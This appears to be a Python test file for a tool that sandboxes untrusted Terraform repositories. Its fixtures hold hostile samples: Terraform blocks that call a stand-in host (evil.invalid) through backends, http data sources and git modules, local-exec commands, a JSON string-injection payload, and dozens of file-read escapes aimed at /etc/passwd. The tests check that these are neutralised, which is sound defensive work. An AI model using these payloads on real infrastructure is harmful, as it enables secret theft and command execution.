"""Nothing of a hostile repository reaches Terraform but expressions that only compute."""

from collections.abc import Callable
from hashlib import sha256
from pathlib import Path

import pytest

from remediator.config import RootConfig
from remediator.errors import RemediatorError
from remediator.iac.terraform.shadow.audit import violations
from remediator.iac.terraform.shadow.conversion import convert
from remediator.iac.terraform.shadow.evaluation import evaluate
from remediator.iac.terraform.shadow.frozen import Frozen
from remediator.iac.terraform.shadow.process import Binary, run
from remediator.iac.terraform.shadow.sources import Sources
from remediator.iac.terraform.syntax import parse

MakeSources = Callable[[dict[str, str]], Sources]

EVIL = """\
terraform {
  cloud { organization = "evil" }
  backend "http" { address = "http://evil.invalid" }
  required_providers { evil = { source = "evil.invalid/a/b" } }
  provider_meta "evil" { x = 1 }
  experiments = [evil]
}
provider "evil" { token = file("/etc/passwd") }
ephemeral "evil_secret" "x" {}
import {
  to = evil_thing.x
  id = "1"
}
moved {
  from = evil_thing.a
  to   = evil_thing.b
}
removed {
  from = evil_thing.z
  lifecycle { destroy = true }
}
check "x" {
  data "http" "leak" { url = "http://evil.invalid" }
  assert {
    condition     = false
    error_message = "x"
  }
}
module "git" { source = "git::https://evil.invalid/x.git" }
module "absolute" { source = "/etc" }
module "outside" { source = "../../../etc" }
module "computed" { source = "./${"m"}" }
module "local" {
  source    = "./m"
  providers = { evil = evil }
}
resource "evil_thing" "x" {
  provider = evil.west
  count    = 1
  provisioner "local-exec" { command = "id" }
  connection { host = "evil.invalid" }
  lifecycle {
    precondition {
      condition     = false
      error_message = "x"
    }
  }
  block {
    dynamic "provisioner" {
      for_each = [1]
      content { command = "id" }
    }
  }
}
resource "terraform_data" "unknown" {
  input            = "mine"
  triggers_replace = [1]
  provisioner "local-exec" { command = "touch /tmp/pwned" }
}
data "external" "x" { program = ["id"] }
data "terraform_remote_state" "x" { backend = "http" }
run "x" {}
"""
JSON = """\
{"terraform": {"backend": {"http": {}}, "cloud": {}}, "provider": {"evil": {}},
 "module": {"remote": {"source": "git::https://evil.invalid/x"}},
 "variable": {"x": {
   "type": "string\\n}\\nresource \\"evil_thing\\" \\"y\\" {\\n", "default": "${file(\\"/etc/passwd\\")}"}},
 "locals": {"a\\" = 1\\n}\\nprovider \\"evil\\" {\\n}\\nlocals {\\n\\"b": 1},
 "data": {"external": {"j": {"program": ["id"]}}},
 "resource": {"evil_thing": {"j": {"provisioner": [{"local-exec": {"command": "id"}}], "x\\"y": "${var.x}",
   "connection": {"host": "x"}, "name\\n}": 1}}}}
"""


def _blocks(sources: Sources) -> list[tuple[str, tuple[str, ...], set[str]]]:
    shadow = convert(sources, RootConfig(path="", state="x"), None)
    assert violations(shadow) == ()
    found = []
    for path, content in shadow.files.items():
        if path.endswith("shadow.tf"):
            parsed = parse(content)
            assert parsed.problem is None
            for block in parsed.blocks:
                assert not block.blocks
                found.append((block.type, block.labels, {a.name for a in block.attributes}))
    return found


def test_only_terraform_data_and_local_modules_get_through(sources: MakeSources) -> None:
    files = {"main.tf": EVIL, "x_override.tf": EVIL, "e.tf.json": JSON, "m/main.tf": EVIL, "m/e.tf.json": JSON}
    for type_, labels, names in _blocks(sources(files)):
        assert type_ in ("resource", "variable", "locals", "output", "module")
        if type_ == "resource":
            assert labels[0] == "terraform_data"
            assert names <= {"count", "for_each", "input"}
        if type_ == "module":
            assert labels == ("local",)


def test_a_hostile_root_plans_without_doing_anything(binary: Binary, sources: MakeSources) -> None:
    files = {"main.tf": EVIL, "e.tf.json": JSON, "m/main.tf": 'resource "evil_thing" "m" {}\n'}
    found = evaluate(binary, sources(files), RootConfig(path="", state="x"), None)
    assert {"evil_thing.x[0]", "evil_thing.j", "module.local.evil_thing.m", "data.external.x"} <= set(found.instances)
    assert not Path("/tmp/pwned").exists()


ESCAPES = [
    'file("/etc/passwd")',
    'file("../../../../../../../../../../../etc/passwd")',
    'file("${path.module}/../../../../../../../../../../etc/passwd")',
    'file("~/../../../../../../../../../../../../etc/passwd")',
    'file(pathexpand("~/../../../../../../../../etc/passwd"))',
    'file(abspath("/etc/passwd"))',
    'file(join("/", ["", "etc", "passwd"]))',
    'file(local.path)',
    'file("${local.path}")',
    '[for p in ["/etc/passwd"] : file(p)][0]',
    'try(file(local.path), filebase64("/etc/passwd"), "neither")',
    'core::file("/etc/passwd")',
    'file /* x */ ("/etc/passwd")',
    'file(\n# c\n"/etc/passwd"\n)',
    'file(<<EOT\n/etc/passwd\nEOT\n)',
    'file(trimspace(<<EOT\n/etc/passwd\nEOT\n))',
    'file(["/etc/passwd"]...)',
    'filebase64("/etc/passwd")',
    'templatefile("/etc/passwd", {})',
    'templatefile("evil.tftpl", {})',
    'templatefile("spaced.tftpl", {})',
    'templatefile("main.tf", {})',
    'templatefile("shadow.tf", {})',
    'templatefile("./x/../shadow.tf/.", {})',
    'templatefile("terraform.tfvars", {})',
    'templatestring(local.template, {})',
    'templatefile("link.tftpl", { f = "/etc/passwd" })',
    '"${file("/etc/passwd")}"',
    '"%{ if true }${file("/etc/passwd")}%{ endif }"',
    '"%{ for l in [file("/etc/passwd")] }${l}%{ endfor }"',
    '<<-EOT\n  ${file("/etc/passwd")}\nEOT\n',
    'jsonencode({ a = file("/etc/passwd") })',
    'sha256(file("/etc/passwd"))',
    'filesha256("/etc/passwd")',
    'join(",", fileset("/etc", "passwd"))',
    'join(",", fileset(path.module, "../../../../../../../../../etc/passwd"))',
    'join(",", fileset("/", local.pattern))',
    'fileexists("/etc/passwd") ? "yes" : "no"',
    'abspath("/etc/passwd") == "" ? "" : file(format("%s", "/etc/passwd"))',
]  # fmt: skip

HARMLESS = ("", "no", "neither")


@pytest.mark.parametrize("expression", ESCAPES)
def test_no_file_outside_the_repository_is_read(binary: Binary, sources: MakeSources, expression: str) -> None:
    files = {
        "env/main.tf": f"""\
# ${{file("/etc/passwd")}}
locals {{
  path     = "/etc/passwd"
  pattern  = "etc/passwd"
  template = "$${{file(\\"/etc/passwd\\")}}"
}}
resource "aws_instance" "a" {{ leak = {expression} }}
""",
        "env/evil.tftpl": '${file("/etc/passwd")}',
        "env/spaced.tftpl": '%{ if true }${ file /* x */\n# y\n ( "/etc/passwd" ) }%{ endif }',
        "env/link.tftpl": "${core::filebase64(f)}",
        "env/terraform.tfvars": '# ${file("/etc/passwd")}\n',
    }
    found = evaluate(binary, sources(files), RootConfig(path="env", state="x"), None)
    leak = found.instances["aws_instance.a"].attributes["leak"]
    secret = Path("/etc/passwd").read_text().splitlines()[0]
    assert secret not in str(leak.loaded())
    assert leak.unknown == "true" or leak.loaded() in (*HARMLESS, sha256(b"").hexdigest())


def test_files_that_terraform_would_read_by_itself_are_not_laid_out(sources: MakeSources) -> None:
    names = [
        "x.tfvars", "x.auto.tfvars.json", "y.tf", "y.tf.json", "terraform.tfstate", "terraform.tfstate.d/prod/s",
        ".terraform/environment", ".terraform.lock.hcl", "y.tofu", "safe.json",
    ]  # fmt: skip
    reads = "".join(f'  "{name}" = try(file("{name}"), "")\n' for name in names)
    files = {"main.tf": f'resource "x" "y" {{\n a = {{\n{reads}}}\n}}\n'} | dict.fromkeys(names, "{}")
    files |= {"y.tf": "", "y.tofu": "", "x.tfvars": "", ".terraform.lock.hcl": "", "main.tf": files["main.tf"]}
    shadow = convert(sources(files), RootConfig(path="", state="x"), None, opentofu=True)
    assert set(shadow.files) == {"shadow.tf", "safe.json"}


def test_a_tree_with_odd_paths_writes_nothing_outside(binary: Binary, sources: MakeSources, tmp_path: Path) -> None:
    files = {
        "main.tf": 'resource "x" "y" { a = [for p in ["a"] : try(file(p), "none")] }\n',
        "../escape.json": "{}",
        "/tmp/absolute.json": "{}",
        "a/../../b": "{}",
    }
    shadow = convert(sources(files), RootConfig(path="", state="x"), None)
    assert set(shadow.files) == {"shadow.tf"}
    with pytest.raises(RemediatorError):
        evaluate(binary, sources({"main.tf": ""}), RootConfig(path="../../etc", state="x"), None)


def test_a_command_sees_nothing_of_our_environment(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("AWS_SECRET_ACCESS_KEY", "secret")
    monkeypatch.setenv("TF_CLI_ARGS", "-chdir=/etc")
    monkeypatch.setenv("TF_VAR_x", "secret")
    done = run(Binary(("/usr/bin/env",)), (), tmp_path, tmp_path, "default", 5)
    assert b"secret" not in done.output
    assert b"TF_CLI_ARGS" not in done.output
    assert f"HOME={tmp_path}/home".encode() in done.output


def test_a_command_that_takes_too_long_is_ended_with_its_children(tmp_path: Path) -> None:
    script = f"(/bin/sleep 1; : > {tmp_path}/late) & /bin/sleep 30"
    with pytest.raises(RemediatorError, match="longer than"):
        run(Binary(("/bin/sh", "-c")), (script,), tmp_path, tmp_path, "default", 0.3)
    assert run(Binary(("/bin/sleep",)), ("1",), tmp_path, tmp_path, "default", 5).code == 0
    assert not (tmp_path / "late").exists()


def test_the_scratch_folder_is_removed(
    frozen: Callable[..., Frozen], tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    frozen({"main.tf": 'resource "x" "y" { a = [path.cwd, abspath(path.module)] }\n'})
    with pytest.raises(RemediatorError):
        frozen({"main.tf": "locals {\n a = local.b\n b = local.a\n}\nresource x y { a = local.a }\n"})
    assert list(tmp_path.iterdir()) == []
